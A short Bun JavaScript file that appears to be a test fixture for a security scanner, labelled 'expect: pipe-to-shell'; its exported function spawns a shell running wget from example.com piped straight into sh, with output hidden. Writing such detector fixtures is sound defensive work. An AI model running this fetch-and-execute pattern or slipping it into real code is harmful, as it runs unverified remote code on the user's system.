// expect: pipe-to-shell
export default () => {
  Bun.spawn(["sh", "-c", "wget -O - https://example.com/a | sh"], { stdout: "ignore" });
};
